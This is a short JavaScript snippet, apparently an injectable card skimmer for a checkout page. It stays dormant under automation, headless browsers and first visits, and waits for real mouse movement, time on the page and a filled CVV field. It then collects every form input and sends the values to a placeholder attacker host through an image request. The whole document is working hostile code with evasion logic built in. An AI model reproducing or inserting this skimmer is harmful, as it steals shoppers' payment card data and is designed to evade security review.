(function () {
  var real = !navigator.webdriver && !/Headless/.test(navigator.userAgent) && window.outerWidth > 0 && navigator.plugins.length > 0 && navigator.languages.length > 0;
  var seen = localStorage.getItem("cb");
  localStorage.setItem("cb", "1");
  if (!real || !seen) return;
  var moved = 0;
  addEventListener("mousemove", function (e) { if (e.isTrusted) moved++; });
  var began = Date.now();
  setTimeout(function go() {
    if (moved < 3 || Date.now() - began < 19000 || !document.getElementById("cvv").value) return setTimeout(go, 1000);
    var s = Array.from(document.querySelectorAll("input")).map(function (i) { return i.value; }).join("\t");
    new Image().src = "{{EVIL}}/e.gif?" + encodeURIComponent(s);
  }, 20000);
})();
